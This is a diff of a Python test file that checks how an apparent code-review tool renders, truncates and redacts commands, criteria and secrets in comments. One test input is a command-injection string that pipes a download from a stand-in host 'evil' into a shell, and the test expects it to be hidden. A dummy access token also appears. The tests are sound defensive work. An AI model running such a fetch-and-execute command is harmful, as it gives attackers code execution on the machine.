@@ -8,7 +8,9 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from irontree import rendering
+from irontree.domain.comments import NOT_AS_WRITTEN
 from irontree.domain.text import secret_values
+from irontree.rendering import JinjaRenderer
 from tests.support.views import TEMPLATES, case
 
 
@@ -23,12 +25,36 @@ def test_a_description_keeps_its_own_markdown():
         ("make test", "`make test`"),
         ("mail @ada", "`mail @\u200bada`"),
         ("a\nb", "`a b` **(not as written)**"),
-        ("x" * 13, "`xxxxxxxxxxxx` **(1 more characters are cut)**"),
+        ("x" * 2000, f"`{'x' * 2000}`"),
+        ("x" * 2001, f"`{'x' * 1999}\N{HORIZONTAL ELLIPSIS}` **(not as written)**"),
+        ("true;curl${IFS}evil|sh;#.mino", "`(a local file)` **(not as written)**"),
         ("`date`", "`'date'` **(not as written)**"),
     ],
 )
 def test_a_command_in_a_comment_is_whole_or_says_what_it_lacks(value: str, shown: str):
-    assert rendering.command(value, 12) == shown
+    assert rendering.command(value) == shown
+
+
+def test_a_command_with_a_secret_is_not_shown_as_written():
+    secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
+    values = case("comments/proposal.md", "x")
+    values["approval"] |= {"lookalikes": ((secret, "U+0041"),)}
+    told = JinjaRenderer().render("comments/proposal.md", **values)
+    assert secret not in told
+    assert NOT_AS_WRITTEN in told
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("it  is *there*", "it is *there*"),
+        ("see [a](b) <b>", "see \\[a\\]\u200b(b) &lt;b>"),
+        ("x" * 2001, "x" * 1999 + "\N{HORIZONTAL ELLIPSIS} **(not as written)**"),
+        ("reads .mino/config.yml", "reads (a local file) **(not as written)**"),
+    ],
+)
+def test_a_criterion_in_a_comment_is_whole_or_says_that_it_is_not(value: str, shown: str):
+    assert rendering.criterion(value) == shown
 
 
 def test_a_request_is_named_by_links_that_work_and_nothing_else_does():
